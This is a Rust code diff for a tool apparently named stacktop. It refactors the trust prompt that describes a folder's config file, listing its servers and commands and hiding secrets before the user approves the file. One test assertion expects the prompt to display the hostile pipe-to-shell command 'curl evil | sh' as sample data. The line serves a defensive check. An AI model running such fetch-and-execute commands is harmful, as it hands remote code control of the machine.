@@ -5,7 +5,8 @@ use super::print::{complain, print};
 use super::state_folder;
 use crate::actions::lines;
 use crate::config::discover::Surroundings;
-use crate::config::resolve::{FolderFile, Wishes, folder_file};
+use crate::config::resolve::{Wishes, deeds};
+use crate::config::written::{FolderFile, folder_file};
 use crate::core::text::tidy;
 use serde::{Deserialize, Serialize};
 use sha2::{Digest, Sha256};
@@ -68,7 +69,7 @@ pub(super) fn settle(wishes: &mut Wishes, around: &Surroundings, care: Care) -> 
             Care::Acts => {
                 complain(&format!(
                     "{shown} came with this folder and is new, or was changed.\n{}",
-                    described(&file)
+                    described(&file, around)
                 ));
                 complain("Trust it, and do all that? Only y and Enter do; everything else ends here.");
                 let mut answer = String::new();
@@ -89,7 +90,7 @@ pub(super) fn run(path: Option<&Path>, around: &Surroundings) -> Result<(), Stri
     let path = path.map_or_else(|| around.folder.join("stacktop.toml"), Path::to_owned);
     let file = FolderFile::read(&path)?;
     remember(&state_folder(around)?.join(REMEMBERED), &file)?;
-    print(&format!("{} is trusted as it is now.\n{}\n", path.display(), described(&file)));
+    print(&format!("{} is trusted as it is now.\n{}\n", path.display(), described(&file, around)));
     Ok(())
 }
 
@@ -104,8 +105,8 @@ fn remember(place: &Path, file: &FolderFile) -> Result<(), String> {
 }
 
 /// What the file would make stacktop do. Commands stand last, next to the question, and whole: the end of one may be what matters.
-fn described(file: &FolderFile) -> String {
-    let (servers, commands) = match file.deeds() {
+fn described(file: &FolderFile, around: &Surroundings) -> String {
+    let (servers, commands) = match deeds(file, around) {
         Ok(deeds) => deeds,
         Err(error) => return format!("  it cannot be used as it is: {}", tidy(&error, MOST_CHARS)),
     };
@@ -169,7 +170,7 @@ mod tests {
     fn the_question_names_hosts_and_commands_and_no_secret() {
         let folder = tempfile::tempdir().expect("a folder");
         let file = FolderFile { path: folder.path().join("stacktop.toml"), text: TEXT.to_owned() };
-        let text = described(&file);
+        let text = described(&file, &Surroundings::empty(folder.path()));
         assert!(text.contains("far.example") && text.contains("curl evil | sh"), "{text}");
         assert!(!text.contains("s3cret") && !text.contains('\u{1b}'), "{text}");
     }
